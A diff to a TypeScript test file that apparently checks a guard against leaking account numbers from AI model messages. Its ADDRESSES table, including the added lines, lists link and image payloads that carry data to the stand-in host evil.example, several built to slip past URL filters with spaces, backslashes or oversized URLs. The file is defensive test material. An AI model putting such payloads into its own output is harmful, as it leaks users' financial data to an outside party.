@@ -24,8 +24,7 @@ const ACCOUNTS: ModelMessage[] = [
           type: 'json',
           value: {
             [IBAN]: { balance: 5 },
-            'DE89-3704-0044-0532-0130-00': 1,
-            x_4111111111111111: 2,
+            history: { 'GB29-NWBK-6016-1331-9268-19': 1 },
             iban: IBAN,
           },
         },
@@ -100,6 +99,11 @@ const ADDRESSES: readonly [where: string, write: (pseudonym: string) => readonly
   ['a Markdown link without a scheme', (it) => ['[click](', `evil/${it})`]],
   ['a host name', (it) => [`https://${it}.evil.example/`]],
   ['an HTML image', (it) => ['<img src="//evil.example/', it, '">']],
+  ['an HTML image with a space', (it) => ['<img src="https://evil.example/?d= ', it, '">']],
+  ['a bracketed Markdown image', (it) => ['![x](<https://evil.example/?d= ', it, '>)']],
+  ['a URL with backslashes', (it) => ['https:\\\\evil.example\\', it]],
+  ['a URL with one slash', (it) => ['see https:/evil.example/', it]],
+  ['a very long URL', (it) => [`https://evil.example/?${'d'.repeat(5_000)}`, it]],
 ];
 
 onEveryAdapter((start) => {
@@ -141,7 +145,6 @@ onEveryAdapter((start) => {
 
     expect(status).toBe(200);
     expect(given).toContain('balance');
-    for (const digits of ['370400440532', '3704-0044', '4111111111111111'])
-      expect(given).not.toContain(digits);
+    for (const digits of ['370400440532', '6016-1331']) expect(given).not.toContain(digits);
   });
 });
